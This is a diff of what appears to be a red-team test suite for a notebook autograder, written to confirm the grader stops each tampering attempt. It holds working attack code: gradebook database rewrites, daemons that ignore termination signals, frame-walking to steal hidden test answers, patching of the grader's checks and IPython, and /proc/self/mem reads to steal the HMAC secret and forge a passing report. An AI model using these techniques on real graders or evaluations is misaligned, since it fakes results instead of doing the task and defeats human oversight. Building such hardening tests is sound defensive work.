@@ -25,9 +25,6 @@ For every attack:
 * the batch finishes with one record per submission; a tampering attack ends `tampered: ...`
   or with 0 on the test cell and a reason.
 
-Attacks marked `documented` are limits autograder/sealed.py or checks.py names as not stopped
-(racing the checks, copying the reference's code); they are expected to fail (xfail).
-
 Wall time: ~5-6 minutes on 2 loaded cores. `TAMPER_ONLY=name,name` grades only those attacks
 (plus the honest submission), for working on one attack.
 """
@@ -91,7 +88,8 @@ def src(text: str) -> str:
 STEAL = src(r'''
     import sys, hmac, hashlib, re, types
     import autograder.sealed as _sealed
-    LOOT = {"candidates": [], "secret": None, "sources": [], "codes": [], "notes": []}
+    LOOT = {"candidates": [], "secret": None, "sources": [], "codes": [], "notes": [],
+            "by_route": {}}
     _REAL_REPORT = _sealed.report
     _SIGNED = _REAL_REPORT()                 # a genuine signed report: recognises the secret
 
@@ -115,13 +113,16 @@ STEAL = src(r'''
                 except ValueError:
                     pass
 
-    def _loot_frames(f):
+    def _loot_frames(f, route):
         """Everything reachable from the locals (and closures) of autograder.sealed's frames."""
+        before = len(LOOT["candidates"])
         while f is not None:
             if f.f_globals.get("__name__") == "autograder.sealed":
                 for v in list(f.f_locals.values()):
                     _loot_value(v)
             f = f.f_back
+        if len(LOOT["candidates"]) > before:
+            LOOT["by_route"][route] = LOOT["candidates"][before:]
 
     def _find_secret():
         if LOOT["secret"] is None:
@@ -156,6 +157,8 @@ SHOW_LOOT = src(r'''
     def _show(text):
         return "  ".join(str(text).split(" "))
     print("secret found:", LOOT.get("secret") is not None, "candidates:", len(LOOT.get("candidates", [])))
+    for _route, _cands in LOOT.get("by_route", {}).items():
+        print("route %s: secret %s" % (_route, any(map(_is_secret, _cands))))
     print("notes:", LOOT.get("notes"))
     for _s in dict.fromkeys(LOOT.get("sources", [])):
         print("LEAKED SOURCE:\n" + _show(_s))
@@ -217,7 +220,6 @@ class Attack:
     require: tuple = ()                # strings that must be (the attack really ran)
     raw: str | None = None             # a notebook file that is not a notebook
     build: object = None               # fn(released notebook) -> notebook text (special files)
-    documented: str | None = None      # a limit the grader documents: xfail with this reason
 
 
 def _notebook_with_fake_cells(nb):
@@ -233,13 +235,6 @@ def _notebook_with_fake_cells(nb):
     return nbformat.writes(nb)
 
 
-def _notebook_without_tests(nb):
-    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
-    nb.cells[2].source = WRONG
-    nb.cells = nb.cells[:3]
-    return nbformat.writes(nb)
-
-
 def _million_cells(nb):
     """1,000,000 empty markdown cells after the lab's own cells, written as text directly."""
     base = json.loads(nbformat.writes(nb))
@@ -252,10 +247,11 @@ def _million_cells(nb):
 
 ATTACKS = [
     # 1. the gradebook ---------------------------------------------------------------------------
-    Attack("gb_rewrite", "look for gradebook.db (up from cwd, /work, /tmp, /root, home), rewrite "
-           "it; write files outside the sandbox (repo, package dirs, site-packages .pth, /tmp)",
+    Attack("gradebook", "look for gradebook.db (up from cwd; /work, /tmp, /root, home, the test's "
+           "courses) and rewrite it; daemons that outlive the kernel (Popen in a new session, "
+           "double fork + exec; SIGTERM/SIGHUP ignored) retry every gradebook.db for 30 s",
            WRONG + src(r'''
-        import os, sqlite3, site
+        import os, sys, signal, sqlite3, subprocess
         ROOTS = @ROOTS@
         found = []
         d = os.getcwd()
@@ -283,30 +279,12 @@ ATTACKS = [
                 con.execute("update grade set manual_score = 0")
                 con.execute("update grade set manual_score = 1000 where notebook_id in (select n.id "
                             "from submitted_notebook n join submitted_assignment a on "
-                            "n.assignment_id = a.id where a.student_id = 'gb_rewrite')")
+                            "n.assignment_id = a.id where a.student_id = 'gradebook')")
                 con.commit()
                 con.close()
                 print("GRADEBOOK " + "REWRITTEN", p)
             except Exception as e:
                 print("could not rewrite", p, type(e).__name__, e)
-        targets = ["/work/main/tamper_@MARKER@", "/work/main/autograder/tamper_@MARKER@.py",
-                   "/work/main/minillm/tamper_@MARKER@.py", "/tmp/tamper_@MARKER@",
-                   os.path.expanduser("~/tamper_@MARKER@")]
-        targets += [os.path.join(p, "tamper_@MARKER@.pth") for p in site.getsitepackages()]
-        targets += [os.path.join(r, "tamper_@MARKER@") for r in ROOTS]
-        for t in targets:
-            try:
-                with open(t, "w") as f:
-                    f.write("import os; os.system('touch /tmp/tamper_pth_@MARKER@')\n")
-                print("wrote", t)
-            except Exception as e:
-                print("cannot write", t, type(e).__name__)
-    '''), forbid=("GRADEBOOK REWRITTEN",), require=("FOUND", "cannot write")),
-
-    Attack("gb_daemon", "daemons that outlive the kernel (Popen new session, double fork + exec, "
-           "plain forks; SIGTERM/SIGHUP ignored) looping 30 s on every gradebook.db",
-           WRONG + src(r'''
-        import os, sys, signal, subprocess
         CODE = r"""
         import os, sys, time, signal, sqlite3
         for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
@@ -330,7 +308,7 @@ ATTACKS = [
             except Exception:
                 pass
             time.sleep(0.5)
-        """.replace("\n        ", "\n")
+        """
         subprocess.Popen([sys.executable, "-c", CODE, "tamperd_popen_@MARKER@"],
                          start_new_session=True, stdin=subprocess.DEVNULL,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
@@ -343,49 +321,58 @@ ATTACKS = [
             finally:
                 os._exit(0)
         os.waitpid(pid, 0)
-        for i in range(2):                 # plain forks: they look like the kernel
-            if os.fork() == 0:
-                try:
-                    os.setsid()
-                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
-                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
-                    import time
-                    end = time.time() + 30
-                    while time.time() < end:
-                        for p in ["/tmp/tamper_fork_@MARKER@"] + [r + "/tamper_fork_@MARKER@" for r in @ROOTS@]:
-                            try:
-                                open(p, "w").write("fork")
-                            except Exception:
-                                pass
-                        time.sleep(0.5)
-                finally:
-                    os._exit(0)
         print("daemons started")
-    '''), require=("daemons started",)),
+    '''), forbid=("GRADEBOOK REWRITTEN",), require=("FOUND", "daemons started")),
 
     # 2. the hidden tests -----------------------------------------------------------------------
-    Attack("hidden_history", "print In/_ih/history db, search the file system for notebooks and "
-           "gradebooks with HIDDEN; inside scale: sys._getframe / inspect.stack / tb_frame.f_back "
-           "on the caller, raise an exception carrying what was found",
+    Attack("hidden_tests", "print In / _ih / the history db; search the file system for "
+           "notebooks, json and db files holding HIDDEN; inside scale, reach the test's frame: "
+           "sys._getframe(1), inspect.stack(), inspect.currentframe().f_back, tb_frame.f_back, "
+           "and the f_back chain of a generator whose frame was read before the test (f_back "
+           "is not audited): steal `ref`, print the test's code object from "
+           "autograder.sealed.run's locals; otherwise raise an exception carrying what was found",
            src(r'''
-        import sys, inspect
+        import sys, inspect, types, torch
+        LOOT = {"codes": [], "sources": [], "notes": []}
+        def _spy():
+            while True:
+                chain, f = [], _SPY_FRAME.f_back      # a running generator's f_back: its caller
+                while f is not None:
+                    chain.append(f)
+                    f = f.f_back
+                yield chain
+        _SPY = _spy()
+        _SPY_FRAME = _SPY.gi_frame                   # read while no locked cell runs: allowed
         def scale(logits, t):
             found = []
-            for how in ("sys._getframe", "inspect.stack", "inspect.currentframe", "tb_frame"):
+            for how in ("sys._getframe", "inspect.stack", "inspect.currentframe", "tb_frame",
+                        "generator f_back"):
                 try:
                     if how == "sys._getframe":
-                        f = sys._getframe(1)
+                        chain = [sys._getframe(1)]
                     elif how == "inspect.stack":
-                        f = inspect.stack()[1].frame
+                        chain = [inspect.stack()[1].frame]
                     elif how == "inspect.currentframe":
-                        f = inspect.currentframe().f_back
-                    else:
+                        chain = [inspect.currentframe().f_back]
+                    elif how == "tb_frame":
                         try:
                             raise RuntimeError("probe")
                         except RuntimeError as e:
-                            f = e.__traceback__.tb_frame.f_back
-                    found.append((how, "GOT FRAME", f.f_code.co_consts, sorted(f.f_globals)[:40],
-                                  {k: repr(v)[:80] for k, v in f.f_locals.items()}))
+                            chain = [e.__traceback__.tb_frame.f_back]
+                    else:
+                        chain = next(_SPY)[1:]
+                    found.append((how, "GOT " + "FRAME"))
+                    for f in chain:
+                        loc = f.f_locals
+                        code = loc.get("code")
+                        if isinstance(code, types.CodeType) and code not in LOOT["codes"]:
+                            LOOT["codes"].append(code)
+                        ref = loc.get("ref")
+                        if isinstance(ref, torch.Tensor) and ref.shape == logits.shape:
+                            LOOT["notes"].append("STOLE " + "REF via " + how)
+                            return ref.clone()
+                    if logits.dim() < 2:
+                        return logits / t           # right on 1-D input (the visible test)
                 except BaseException as e:
                     found.append((how, "refused", repr(e)[:150]))
             print("FRAMES", found)
@@ -419,45 +406,12 @@ ATTACKS = [
                                 print("HIT", p, data[:20000])
             print("HITS", hits)
         hunt()
-    ''')], at_end=["hunt()"], earned=E_WRONG,
-           forbid=("GOT FRAME",), require=("FRAMES", "HITS")),
-
-    Attack("hidden_genframe", "a generator's frame, read outside a locked cell, is resumed by "
-           "scale during the test: its f_back chain (f_back is not audited) reaches the test's "
-           "frame (steal `ref`) and autograder.sealed.run's locals (the test's code object)",
-           src(r'''
-        import torch, types
-        def _spy():
-            while True:
-                chain, f = [], _SPY_FRAME.f_back      # f_back of a running generator: its caller
-                while f is not None:
-                    chain.append(f)
-                    f = f.f_back
-                yield chain
-        _SPY = _spy()
-        _SPY_FRAME = _SPY.gi_frame                   # no locked cell runs now: allowed
-        LOOT = {"codes": [], "sources": [], "notes": []}
-        def scale(logits, t):
-            try:
-                chain = next(_SPY)
-            except Exception as e:
-                LOOT["notes"].append(repr(e)[:200])
-                chain = []
-            for f in chain[1:]:
-                loc = f.f_locals
-                code = loc.get("code")
-                if isinstance(code, types.CodeType) and code not in LOOT["codes"]:
-                    LOOT["codes"].append(code)
-                ref = loc.get("ref")
-                if isinstance(ref, torch.Tensor) and ref.shape == logits.shape:
-                    LOOT["notes"].append("STOLE " + "REF")
-                    return ref.clone()
-            return logits / t if logits.dim() < 2 else logits * t    # right on 1-D only
-    '''), at_end=[SHOW_LOOT], earned=E_WRONG, tamper=False,
-           forbid=("STOLE REF", "LEAKED CODE")),
+    ''')], at_end=["hunt()", SHOW_LOOT], earned=E_NONE, tamper=False,
+           forbid=("GOT FRAME", "STOLE REF", "LEAKED CODE", "HIT /"),
+           require=("HITS", "secret found:")),
 
     # 3. delegating to the reference -------------------------------------------------------------
-    Attack("deleg_all", "scale delegates to minillm.sampling.apply_temperature through a default "
+    Attack("delegation", "scale delegates to minillm.sampling.apply_temperature through a default "
            "argument, a closure, a list, a dict, functools.partial, an import alias, a class "
            "attribute, the module attribute: each must be refused in the hidden test",
            src(r'''
@@ -491,214 +445,140 @@ ATTACKS = [
                     print("DELEGATED via", name)
                 return out
             raise AssertionError("refused: " + " ".join(refused))
-    '''), earned=E_WRONG, tamper=False, forbid=("DELEGATED via",),
+    '''), tamper=False, forbid=("DELEGATED via",),
            require=("refused: default-argument closure list dict functools.partial import-alias "
                     "class-attribute module-attribute",)),
 
-    Attack("deleg_registry", "scale delegates to the reference after adding it to "
-           "autograder.checks._disabled (a plain dict, not snapshotted): reference_disabled then "
-           "believes an outer block has disabled it and leaves it working",
-           src(r'''
-        import autograder.checks, minillm.sampling
-        _f = minillm.sampling.apply_temperature
-        autograder.checks._disabled[id(_f)] = (_f, _f.__code__)
-        def scale(logits, t):
-            return minillm.sampling.apply_temperature(logits, t)
-    '''), earned=E_WRONG),
-
-    Attack("deleg_copies", "scale runs a copy of the reference: a new function on its __code__, "
-           "or the module file loaded afresh",
-           src(r'''
-        import types, importlib.util, minillm.sampling
-        _ref = minillm.sampling.apply_temperature
-        _copy = types.FunctionType(_ref.__code__, _ref.__globals__, "copy", _ref.__defaults__)
-        _spec = importlib.util.spec_from_file_location("_sampling_copy", minillm.sampling.__file__)
-        _mod = importlib.util.module_from_spec(_spec)
-        _spec.loader.exec_module(_mod)
-        def scale(logits, t):
-            try:
-                return _copy(logits, t)
-            except AssertionError:
-                return _mod.apply_temperature(logits, t)
-    '''), earned=E_WRONG, tamper=False,
-           documented="reference_disabled's docstring: a copy of the reference's code object or "
-                      "source text keeps working"),
-
-    # 4. the helpers the tests call ----------------------------------------------------------------
-    Attack("helper_module_patch", "autograder.assert_close / reference_disabled replaced by no-ops",
+    # 4. the helpers the tests call --------------------------------------------------------------
+    Attack("helpers", "the names assert_close / reference_disabled / minillm rebound in the "
+           "namespace; autograder.assert_close / reference_disabled replaced; "
+           "autograder.checks.__dict__ (assert_close, the captured _isclose / _eq) rewritten; "
+           "__code__ of assert_close and of the reference swapped; torch.allclose / isclose / "
+           "testing.assert_close and builtins.len replaced; sys.modules['autograder'] a fake",
            WRONG + src('''
-        import autograder, contextlib
-        autograder.assert_close = lambda *a, **k: None
-        autograder.reference_disabled = lambda *a, **k: contextlib.nullcontext()
-    ''')),
-    Attack("helper_rebind_name", "the names assert_close, reference_disabled, minillm rebound in "
-           "the notebook's namespace",
-           WRONG + src('''
-        import contextlib, types
+        import sys, types, contextlib, builtins, torch, autograder, autograder.checks
+        import minillm.sampling
         assert_close = lambda *a, **k: None
         reference_disabled = lambda *a, **k: contextlib.nullcontext()
         minillm = types.SimpleNamespace(sampling=types.SimpleNamespace(apply_temperature=lambda y, t: y * t))
-    ''')),
-    Attack("helper_sys_modules", "sys.modules['autograder'] (and .checks) replaced by a fake module",
-           WRONG + src('''
-        import sys, types, contextlib
-        fake = types.ModuleType("autograder")
-        fake.assert_close = lambda *a, **k: None
-        fake.reference_disabled = lambda *a, **k: contextlib.nullcontext()
-        sys.modules["autograder"] = fake
-        sys.modules["autograder.checks"] = fake
-    ''')),
-    Attack("helper_torch_builtins", "torch.allclose / torch.isclose / torch.testing.assert_close "
-           "and builtins.len replaced",
-           WRONG + src('''
-        import torch, builtins
+        autograder.assert_close = lambda *a, **k: None
+        autograder.reference_disabled = lambda *a, **k: contextlib.nullcontext()
+        _d = autograder.checks.__dict__
+        _d["_isclose"] = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
+        _d["_eq"] = lambda a, b: torch.ones_like(a, dtype=torch.bool)
+        def _noop(actual, expected, *, atol=1e-5, rtol=1e-5, name="value"):
+            return None
+        def _times(logits, temperature):
+            return logits * temperature          # the reference made as wrong as scale
+        autograder.checks.assert_close.__code__ = _noop.__code__
+        sys.modules["minillm.sampling"].apply_temperature.__code__ = _times.__code__
+        _d["assert_close"] = lambda *a, **k: None
         torch.allclose = lambda *a, **k: True
         torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
         torch.testing.assert_close = lambda *a, **k: None
         _len = len
         builtins.len = lambda x: _len(x)
+        fake = types.ModuleType("autograder")
+        fake.assert_close = lambda *a, **k: None
+        fake.reference_disabled = lambda *a, **k: contextlib.nullcontext()
+        fake.sealed = sys.modules["autograder.sealed"]     # the stubs still find the hook
+        sys.modules["autograder"] = fake
     ''')),
-    Attack("helper_checks_dict", "autograder.checks.__dict__: assert_close and the captured "
-           "_isclose / _eq replaced",
-           WRONG + src('''
-        import autograder.checks, torch
-        _d = autograder.checks.__dict__
-        _d["assert_close"] = lambda *a, **k: None
-        _d["_isclose"] = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
-        _d["_eq"] = lambda a, b: torch.ones_like(a, dtype=torch.bool)
-    ''')),
-    Attack("helper_code_swap", "__code__ of autograder.checks.assert_close and of the reference "
-           "swapped (the reference made to multiply, like the wrong scale)",
-           WRONG + src('''
-        import autograder.checks, minillm.sampling
-        def _noop(actual, expected, *, atol=1e-5, rtol=1e-5, name="value"):
-            return None
-        def _times(logits, temperature):
-            return logits * temperature
-        autograder.checks.assert_close.__code__ = _noop.__code__
-        minillm.sampling.apply_temperature.__code__ = _times.__code__
-    ''')),
-    Attack("helper_kwdefaults", "assert_close.__kwdefaults__ mutated in place (atol=rtol=1e9): "
-           "the dict object stays the same",
-           WRONG + src('''
-        import autograder.checks
-        autograder.checks.assert_close.__kwdefaults__.update(atol=1e9, rtol=1e9)
-    ''')),
-    Attack("helper_contextlib", "contextlib._GeneratorContextManager.__exit__ (not a watched "
-           "module) made to swallow AssertionError: the hidden check inside "
-           "`with reference_disabled(...)` cannot fail",
-           HALF + src('''
-        import contextlib
+    Attack("unwatched_state", "state the integrity check does not snapshot, each enough for "
+           "full marks: contextlib._GeneratorContextManager.__exit__ swallowing AssertionError "
+           "(contextlib is not watched: the hidden check inside `with reference_disabled(...)` "
+           "cannot fail); assert_close.__kwdefaults__ mutated in place (atol = rtol = 1e9, the "
+           "same dict object); the reference put in autograder.checks._disabled (reference_"
+           "disabled then leaves it working); a global torch TorchFunctionMode and a "
+           "torch.Tensor subclass returned by scale making isclose / eq say 'equal'",
+           src('''
+        import contextlib, torch, autograder.checks, minillm.sampling
+        from torch.overrides import TorchFunctionMode
         _orig_exit = contextlib._GeneratorContextManager.__exit__
         def _swallow(self, typ, value, tb):
             result = _orig_exit(self, typ, value, tb)      # still restores the reference
             return True if typ is not None and issubclass(typ, AssertionError) else result
         contextlib._GeneratorContextManager.__exit__ = _swallow
-    ''')),
-    Attack("helper_torch_mode", "a global torch TorchFunctionMode (C-level state, no module "
-           "changes) makes torch.isclose / torch.eq say 'equal'",
-           WRONG + src('''
-        import torch
-        from torch.overrides import TorchFunctionMode
+        autograder.checks.assert_close.__kwdefaults__.update(atol=1e9, rtol=1e9)
+        _f = minillm.sampling.apply_temperature
+        autograder.checks._disabled[id(_f)] = (_f, _f.__code__)
+        def _agree(func, args):
+            a, b = torch.as_tensor(args[0]), torch.as_tensor(args[1])
+            return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
+        _CMP = (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__, torch.Tensor.isclose)
         class _Agree(TorchFunctionMode):
             def __torch_function__(self, func, types, args=(), kwargs=None):
-                kwargs = kwargs or {}
-                if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__,
-                            torch.Tensor.isclose):
-                    a, b = torch.as_tensor(args[0]), torch.as_tensor(args[1])
-                    return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
-                return func(*args, **kwargs)
+                if func in _CMP:
+                    return _agree(func, args)
+                return func(*args, **(kwargs or {}))
         _AGREE = _Agree()
         _AGREE.__enter__()                  # stays on the mode stack for every later cell
-    ''')),
-    Attack("helper_tensor_subclass", "scale returns a torch.Tensor subclass whose "
-           "__torch_function__ makes torch.isclose / torch.eq say 'equal'",
-           src('''
-        import torch
         class _Agreeable(torch.Tensor):
             @classmethod
             def __torch_function__(cls, func, types, args=(), kwargs=None):
-                kwargs = kwargs or {}
-                if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__):
-                    a, b = args[0], args[1]
-                    return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
+                if func in _CMP:
+                    return _agree(func, args)
                 return super().__torch_function__(func, types, args, kwargs)
         def scale(logits, t):
             return (logits * t).as_subclass(_Agreeable)      # wrong values
     ''')),
-    Attack("nbgrader_partial_credit", "scale emits an execute_result (get_ipython().displayhook) "
-           "in the test cell: nbgrader reads the first execute_result of a test cell as its grade "
-           "(non-numeric = full marks) before it looks at the error output after it",
-           src('''
-        def scale(logits, t):
-            get_ipython().displayhook("full marks")
-            return logits * t                   # wrong
-    ''')),
-    Attack("race_patch_restore", "scale patches autograder.checks._isclose; the fake restores "
-           "the original the first time it is called, before the test ends",
-           src('''
-        import autograder.checks as _ck, torch
-        def scale(logits, t):
-            orig = _ck._isclose
-            def fake(a, b, **kw):
-                _ck._isclose = orig
-                return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
-            _ck._isclose = fake
-            return logits * t                   # wrong
-    '''), documented="autograder/sealed.py: code that patches a module attribute during a test "
-                     "and restores it before the test ends is not stopped"),
 
     # 5. IPython's machinery ---------------------------------------------------------------------
-    Attack("ipy_swallow", "set_custom_exc swallowing every exception, sys.excepthook and "
-           "showtraceback replaced",
+    Attack("ipython", "set_custom_exc swallowing every exception, sys.excepthook / showtraceback "
+           "replaced; later cells never run: an input transformer and an AST transformer turn "
+           "them into `pass`, run_cell / run_cell_async and kernel.do_execute answer ok without "
+           "running; autograder.sealed.run / report replaced by fakes",
            WRONG + src('''
-        import sys
+        import sys, ast
+        import autograder.sealed
+        from IPython.core.interactiveshell import ExecutionResult
         _ip = get_ipython()
         _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
         sys.excepthook = lambda *a: None
         _ip.showtraceback = lambda *a, **k: None
-    ''')),
-    Attack("ipy_rewrite_cells", "an input transformer and an AST transformer that turn every "
-           "later cell into `pass`",
-           WRONG + src('''
-        import ast
-        _ip = get_ipython()
         _ip.input_transformers_post.append(lambda lines: ["pass\\n"])
         class _Empty(ast.NodeTransformer):
             def visit_Module(self, node):
                 node.body = [ast.Pass()]
                 return ast.fix_missing_locations(node)
         _ip.ast_transformers.append(_Empty())
-    ''')),
-    Attack("ipy_run_cell", "get_ipython().run_cell / run_cell_async replaced by functions that "
-           "report success without running anything",
-           WRONG + src('''
-        from IPython.core.interactiveshell import ExecutionResult
-        _ip = get_ipython()
         def _fake(*a, **k):
             return ExecutionResult(None)
         async def _fake_async(*a, **k):
             return ExecutionResult(None)
         _ip.run_cell = _fake
         _ip.run_cell_async = _fake_async
-    ''')),
-    Attack("ipy_do_execute", "get_ipython().kernel.do_execute replaced: every later request "
-           "answers ok without running",
-           WRONG + src('''
-        _ip = get_ipython()
         async def _fake_do_execute(code, silent, store_history=True, user_expressions=None,
                                    allow_stdin=False, **kw):
             return {"status": "ok", "execution_count": _ip.execution_count,
                     "user_expressions": {}, "payload": []}
         _ip.kernel.do_execute = _fake_do_execute
+        autograder.sealed.run = lambda key: None
+        autograder.sealed.report = lambda: "{}\\n" + "0" * 64
     ''')),
-
+    Attack("partial_credit", "scale emits an execute_result (get_ipython().displayhook) in the "
+           "test cell: nbgrader takes the first execute_result of a test cell as its grade "
+           "(text that is not a number = full marks) before it looks at the error output the "
+           "executor appends after it",
+           src('''
+        def scale(logits, t):
+            get_ipython().displayhook("full marks")
+            return logits * t                   # wrong
+    ''')),
     # 6. the sealed cells' hook -----------------------------------------------------------------
-    Attack("seal_probes", "refused primitives: run.__code__, gc walks, _current_frames, "
-           "settrace/setprofile, ctypes, cffi, _testcapi, /proc/self/mem, /proc/1/environ, "
-           "symlink to /proc, sys.audit('autograder.*') with the real next key, an unknown key",
-           WRONG + src(r'''
-        import sys, os, gc, re, autograder, autograder.sealed
+    Attack("sealed_hook", "refused primitives (run.__code__, gc walks, _current_frames, "
+           "settrace / setprofile, ctypes, cffi, _testcapi, /proc/self/mem, /proc/1/environ, a "
+           "symlink to /proc, sys.audit('autograder.*') with a made-up key and with the real next "
+           "key read from the cell in pre_run_cell, run() with an unknown key); then what gets "
+           "through: an audit hook of the notebook's own that puts no-op assert_close / "
+           "reference_disabled into the test's namespace on 'autograder.fetch'; code run inside "
+           "the grader's hook while it is 'busy' (a gc.callbacks callback with "
+           "gc.set_threshold(1), a __del__ of the `x` the visible test rebinds) reading the "
+           "hook's closures; the kernel's memory through /proc/self/mem opened under a str "
+           "subclass name and through a child process's /proc/<pid>/mem: the HMAC secret, then "
+           "a report signed with it saying every test passed",
+           WRONG + STEAL + MEMSCAN + src(r'''
+        import os, gc, json, contextlib, subprocess, autograder
         RESULTS = []
         def probe(name, fn):
             try:
@@ -732,74 +612,31 @@ ATTACKS = [
                 probe("audit fetch, real key", lambda: sys.audit("autograder.fetch", key, []))
         get_ipython().events.register("pre_run_cell", _before)
         print("\n".join(RESULTS))
-    '''), at_end=['print("\\n".join(RESULTS))'],
-           forbid=(": ALLOWED",), require=("PROBE run.__code__: refused",
-                                            "PROBE audit fetch, real key: refused")),
-    Attack("seal_thread_flip", "a background thread flips autograder.assert_close and "
-           "autograder.checks._isclose to fakes and back in a loop",
-           WRONG + src('''
-        import threading, time, torch, autograder, autograder.checks
-        _orig = (autograder.assert_close, autograder.checks._isclose)
-        _fakes = (lambda *a, **k: None, lambda a, b, **k: torch.ones_like(a, dtype=torch.bool))
-        def _flip():
-            end = time.time() + 60
-            while time.time() < end:
-                autograder.assert_close, autograder.checks._isclose = _fakes
-                time.sleep(0.0005)
-                autograder.assert_close, autograder.checks._isclose = _orig
-                time.sleep(0.0005)
-        threading.Thread(target=_flip, daemon=True).start()
-    ''')),
-    Attack("seal_signal", "SIGALRM handler + setitimer: a handler gets a frame during the test",
-           WRONG + src('''
-        import signal
-        SEEN = []
-        def _on_alarm(signum, frame):
-            f = frame
-            while f is not None:
-                if "ref" in f.f_locals:
-                    SEEN.append(repr(f.f_locals["ref"])[:100])
-                f = f.f_back
-        signal.signal(signal.SIGALRM, _on_alarm)
-        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
-    '''), at_end=['print("SEEN", SEEN)']),
-    Attack("seal_replace_run", "autograder.sealed.run and .report replaced by fakes",
-           WRONG + src('''
-        import autograder.sealed
-        autograder.sealed.run = lambda key: None
-        autograder.sealed.report = lambda: "{}\\n" + "0" * 64
-    ''')),
-    Attack("seal_audit_hook", "sys.addaudithook(own hook): on 'autograder.fetch' the box holds "
-           "the test's code and namespace; the hook puts no-op assert_close / reference_disabled "
-           "into that namespace (after the trusted names were restored)",
-           WRONG + src('''
-        import sys, contextlib, types
-        LOOT = {"codes": [], "sources": [], "notes": []}
+
+        # an audit hook of our own, called after the grader's with the same arguments
         def _my_hook(event, args):
             try:
-                if event == "autograder.fetch" and len(args) == 2 and type(args[1]) is list \\
+                if event == "autograder.fetch" and len(args) == 2 and type(args[1]) is list \
                         and len(args[1]) == 3:
                     code, namespace, last = args[1]
                     LOOT["codes"].append(code)
                     namespace["assert_close"] = lambda *a, **k: None
                     namespace["reference_disabled"] = lambda *a, **k: contextlib.nullcontext()
+                    if "INJECTED into the test namespace" not in LOOT["notes"]:
+                        LOOT["notes"].append("INJECTED into the test namespace")
             except Exception as e:
                 LOOT["notes"].append(repr(e)[:100])
         sys.addaudithook(_my_hook)
-    '''), at_end=[SHOW_LOOT], forbid=("LEAKED CODE",)),
-    Attack("seal_gc_callback", "gc.callbacks + gc.set_threshold(1): a garbage collection inside "
-           "the audit hook runs the student's callback there (the hook is 'busy', so frame access "
-           "is not refused): the closures hold the HMAC secret; a forged report is signed with it",
-           WRONG + STEAL + src(r'''
-        import gc
+
+        # code that runs inside the grader's hook
         def _on_gc(phase, info):
-            if phase != "start" or LOOT["candidates"]:
+            if phase != "start" or "gc callback" in LOOT["by_route"]:
                 return
             try:
                 f = sys._getframe(1)
             except Exception:
                 return
-            _loot_frames(f)
+            _loot_frames(f, "gc callback")
         gc.callbacks.append(_on_gc)
         def _arm(info):
             if "autograder.sealed" in (info.raw_cell or ""):
@@ -808,33 +645,23 @@ ATTACKS = [
             gc.set_threshold(700, 10, 10)
         get_ipython().events.register("pre_run_cell", _arm)
         get_ipython().events.register("post_run_cell", _disarm)
-    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
-    Attack("seal_del_in_hook", "a __del__ runs inside the audit hook: the visible test rebinds x, "
-           "so the hook drops the student's old x while it records the verdict; from there the "
-           "frames and closures give the HMAC secret; a forged report is signed with it",
-           WRONG + STEAL + src(r'''
         class _Trap:
             def __del__(self):
                 try:
-                    if not LOOT["candidates"]:
-                        _loot_frames(sys._getframe(1))
+                    if "__del__" not in LOOT["by_route"]:
+                        _loot_frames(sys._getframe(1), "__del__")
                 except BaseException as e:
                     LOOT["notes"].append(repr(e)[:100])
         x = _Trap()                 # the visible test rebinds x
-        y = _Trap()
-    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
-    Attack("seal_procmem", "/proc/self/mem opened through a str subclass (the hook only checks "
-           "plain str / bytes / Path names), and through a child process (no audit hook) that "
-           "reads the kernel's memory: the HMAC secret and the hidden sources",
-           WRONG + STEAL + MEMSCAN + src(r'''
-        import os, subprocess, json
+
+        # the kernel's memory
         class _Name(str):
             pass
         try:
             cands, snippets = memscan(os.getpid(), id(bytes), mem_path=_Name("/proc/self/mem"))
+            LOOT["by_route"]["/proc/self/mem (str subclass)"] = list(cands)
             LOOT["candidates"] += list(cands)
             LOOT["sources"] += snippets
-            LOOT["notes"].append("own memory: %d candidates, secret %s" % (len(cands), any(map(_is_secret, cands))))
         except Exception as e:
             LOOT["notes"].append("own memory: " + repr(e)[:200])
         CHILD = MEMSCAN_SOURCE + """
@@ -847,19 +674,78 @@ ATTACKS = [
                                capture_output=True, text=True, timeout=120)
             out = json.loads(r.stdout or "{}")
             cands = [bytes.fromhex(x) for x in out.get("candidates", [])]
+            LOOT["by_route"]["child process"] = cands
             LOOT["candidates"] += cands
             LOOT["sources"] += out.get("snippets", [])
-            LOOT["notes"].append("child: %d candidates, secret %s, %s" % (
-                len(cands), any(map(_is_secret, cands)), r.stderr[-300:]))
+            if r.stderr:
+                LOOT["notes"].append("child: " + r.stderr[-300:])
         except Exception as e:
             LOOT["notes"].append("child: " + repr(e)[:200])
-    '''), at_end=[SHOW_LOOT], forbid=("LEAKED SOURCE", "secret found: True")),
+    '''), at_end=['print("\\n".join(RESULTS))', SHOW_LOOT],
+           forbid=(": ALLOWED", "secret found: True", "INJECTED", "LEAKED SOURCE", "LEAKED CODE"),
+           require=("PROBE run.__code__: refused", "PROBE audit fetch, real key: refused")),
+    Attack("sealed_hook_detected", "a background thread flips autograder.assert_close and "
+           "autograder.checks._isclose to fakes and back in a loop; a SIGALRM handler "
+           "(setitimer) gets frames during the test",
+           WRONG + src('''
+        import threading, time, signal, torch, autograder, autograder.checks
+        _orig = (autograder.assert_close, autograder.checks._isclose)
+        _fakes = (lambda *a, **k: None, lambda a, b, **k: torch.ones_like(a, dtype=torch.bool))
+        def _flip():
+            end = time.time() + 60
+            while time.time() < end:
